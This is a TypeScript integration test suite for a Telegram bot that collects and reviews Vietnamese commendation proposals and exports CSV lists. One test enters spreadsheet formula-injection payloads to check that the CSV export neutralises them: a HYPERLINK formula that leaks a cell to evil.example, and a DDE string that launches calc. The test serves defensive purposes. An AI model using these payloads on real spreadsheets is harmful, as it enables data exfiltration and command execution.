import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createInvite } from '../../src/invites/create-invite.js';
import { FakeTelegramApi } from '../helpers/fake-telegram-api.js';
import { startTestApp, type TestApp } from '../helpers/start-test-app.js';
import { TelegramChat } from '../helpers/telegram-chat.js';
import { TestClock } from '../helpers/test-clock.js';
import { createEmptyDatabase, providers, type TestDatabase } from '../helpers/test-database.js';

const vn = (s: string) => new Date(`${s}+07:00`);
const OFFICIAL = 9100;
const text = TelegramChat.text;

describe.each(providers)('phase review and commendation proposals (%s)', (provider) => {
  let api: FakeTelegramApi;
  let database: TestDatabase;
  let app: TestApp;
  let official: TelegramChat;
  let contact: TelegramChat;
  const clock = new TestClock(vn('2025-11-20T09:00:00'));

  beforeAll(async () => {
    api = await new FakeTelegramApi().start();
    database = await createEmptyDatabase(provider);
    app = await startTestApp({ databaseUrl: database.url, telegram: api, clock, env: { ADMINS: `telegram:${OFFICIAL}` } });
    official = new TelegramChat(api, OFFICIAL);
    contact = new TelegramChat(api, 9101);
    const unit = await app.database.db.unit.findFirstOrThrow({ where: { code: 'H_DAK_MIL' } });
    const code = (await app.database.db.$transaction((tx) => createInvite(tx, { role: 'unit_contact', unitId: unit.id, createdById: null, ttlDays: 14, now: clock.now() }))).code;
    await contact.say(`/start ${code}`);
    // The menu follows the welcome; under load it may come after the answer was read.
    await contact.waitFor((m) => m.text.includes('Bạn muốn làm gì tiếp theo'));
  });
  afterAll(async () => {
    await app?.stop();
    await api?.stop();
    await database?.drop();
  });

  it('should take proposals only once the Board has opened the review', async () => {
    expect(text(await contact.say('/dexuat'))).toContain('chưa mở đợt sơ kết/tổng kết');
    expect(text(await official.say('/khenthuong'))).toContain('Chưa mở đợt sơ kết/tổng kết giai đoạn nào');
    expect(text(await official.say('/khenthuong mo P9'))).toContain('Không có giai đoạn P9');
    expect(text(await official.say('/khenthuong mo P1'))).toContain('Đã mở đợt sơ kết/tổng kết: Giai đoạn 1 (2022–2025)');
    expect(text(await official.say('/khenthuong mo P1'))).toContain('đã được mở');
  });

  async function propose(kind: string, name: string, award: string, initiative?: string) {
    await contact.press(kind);
    await contact.say(name);
    await contact.press(award);
    await contact.say('Vận động nhân dân hiến 12.000 m² đất làm đường liên xã, tiết kiệm 3 tỷ đồng.');
    if (initiative) await contact.say(initiative);
    else await contact.press('Bỏ qua');
    return text(await contact.press('Gửi đề nghị'));
  }

  it('should take the phase report once, then proposals for collectives, households and individuals', async () => {
    expect(text(await contact.say('/dexuat'))).toContain('Báo cáo sơ kết/tổng kết giai đoạn của đơn vị');
    await contact.say('Giai đoạn 2022–2025 huyện đã nhựa hóa 85 km đường, giải ngân 98% kế hoạch vốn.');
    expect(contact.messages.map((m) => m.text).join('\n')).toContain('Đã lưu báo cáo giai đoạn.');
    expect(await propose('Cá nhân', 'Ông Y Bhông, trưởng thôn 3, xã Đắk Lao', 'Bằng khen của Chủ tịch UBND tỉnh', 'Cách làm "đường dân tự làm" được UBND huyện công nhận năm 2024')).toContain('Đã gửi đề nghị khen thưởng');
    // The phase report is not asked for again.
    expect(text(await contact.say('/dexuat'))).toContain('Đề nghị khen thưởng cho:');
    expect(await propose('Hộ gia đình', 'Hộ ông Nguyễn Văn An, thôn 5', 'Giấy khen của thủ trưởng sở, ban, ngành, địa phương')).toContain('Đã gửi đề nghị khen thưởng');
  });

  it('should let officials accept or return proposals and give the Board the consolidated list', async () => {
    const board = text(await official.say('/khenthuong'));
    expect(board).toContain('Báo cáo giai đoạn: 1 đơn vị đã nộp. Đề nghị: 2 chờ duyệt, 0 trả lại, 0 đã chấp nhận.');
    expect(board).toContain('• Cá nhân: Ông Y Bhông, trưởng thôn 3, xã Đắk Lao — Bằng khen của Chủ tịch UBND tỉnh (UBND huyện Đắk Mil)');
    expect(board).toContain('Sáng kiến: Cách làm "đường dân tự làm"');
    const [individual, household] = await app.database.db.commendationProposal.findMany({ orderBy: { submittedAt: 'asc' } });
    expect(official.last.buttons.flat().map((b) => b.data)).toContain(`m:khenthuong duyet ${individual!.id}`);
    const acceptLabel = official.last.buttons.flat().find((b) => b.data === `m:khenthuong duyet ${individual!.id}`)!.text;
    expect(acceptLabel).toMatch(/^✅ Chấp nhận: Ông Y Bhông/);
    // A return button beside it: it answers with the command to complete, the proposal's id in it.
    expect(official.last.buttons.flat().filter((b) => b.text === '↩️ Trả lại').map((b) => b.data)).toContain(`m:khenthuong tra ${individual!.id}`);
    expect(text(await official.press(acceptLabel))).toContain('Đã chấp nhận đề nghị.');
    expect(text(await official.say(`/khenthuong tra ${household!.id}`))).toContain(`/khenthuong tra ${household!.id} lý do`);
    expect(text(await official.say(`/khenthuong tra ${household!.id} Thiếu xác nhận của UBND xã`))).toContain('Đã trả lại đề nghị');
    await contact.waitFor((m) => m.text.includes('được trả lại để sửa. Lý do: Thiếu xác nhận của UBND xã'));
    expect(text(await official.say(`/khenthuong duyet ${household!.id}`))).toContain('đã được xử lý');

    const list = await official.say('/khenthuong danhsach');
    expect(text(list)).toContain('Danh sách đề nghị khen thưởng đã chấp nhận (1) — Giai đoạn 1 (2022–2025)');
    expect(text(list)).toContain('1. Bằng khen của Chủ tịch UBND tỉnh — Cá nhân: Ông Y Bhông');
    const file = await app.database.db.storedFile.findFirstOrThrow({ where: { mimeType: 'text/csv' } });
    const csv = Buffer.from(file.data).toString('utf8');
    expect(csv).toContain('STT,Hình thức khen thưởng,Đối tượng,"Tên tập thể, hộ gia đình, cá nhân"');
    expect(csv).toContain('Ông Y Bhông');
    expect(csv).not.toContain('Nguyễn Văn An');
  });

  it('should write what a unit typed into the list as text a spreadsheet never runs', async () => {
    await contact.say('/dexuat');
    await propose('Cá nhân', '=HYPERLINK("http://evil.example/?x="&A1,"Xem")', 'Bằng khen của Chủ tịch UBND tỉnh', '@SUM(1+1)*cmd|\' /C calc\'!A0');
    const proposal = await app.database.db.commendationProposal.findFirstOrThrow({ where: { nomineeName: { startsWith: '=HYPERLINK' } } });
    await official.say(`/khenthuong duyet ${proposal.id}`);
    await official.say('/khenthuong danhsach');
    const file = await app.database.db.storedFile.findFirstOrThrow({ where: { mimeType: 'text/csv' }, orderBy: { createdAt: 'desc' } });
    const csv = Buffer.from(file.data).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(`"'@SUM(1+1)`);
    expect(csv).not.toMatch(/(^|,)"?[=@+-]/m);
  });

  it("should tell a proposal's return to the unit's contacts now, not to a contact revoked since", async () => {
    const unit = await app.database.db.unit.findFirstOrThrow({ where: { code: 'H_DAK_MIL' } });
    const successor = new TelegramChat(api, 9102);
    const code = (await app.database.db.$transaction((tx) => createInvite(tx, { role: 'unit_contact', unitId: unit.id, createdById: null, ttlDays: 14, now: clock.now() }))).code;
    await successor.say(`/start ${code}`);
    await successor.waitFor((m) => m.text.includes('Bạn muốn làm gì tiếp theo'));
    await contact.say('/dexuat');
    await propose('Tập thể', 'Tổ dân phố 2, thị trấn Đắk Mil', 'Bằng khen của Chủ tịch UBND tỉnh');
    const proposal = await app.database.db.commendationProposal.findFirstOrThrow({ where: { nomineeName: 'Tổ dân phố 2, thị trấn Đắk Mil' } });
    // The contact who sent it leaves the unit before the Board answers.
    const sender = await app.database.db.identity.findFirstOrThrow({ where: { channel: 'telegram', externalId: '9101' } });
    await app.database.db.roleAssignment.updateMany({ where: { personId: sender.personId, unitId: unit.id }, data: { revokedAt: clock.now() } });
    const before = contact.messages.length;
    await official.say(`/khenthuong tra ${proposal.id} Hồ sơ thiếu biên bản họp bình xét`);
    await successor.waitFor((m) => m.text.includes('Hồ sơ thiếu biên bản họp bình xét'));
    expect(text(contact.messages.slice(before))).not.toContain('Hồ sơ thiếu biên bản');
  });
});
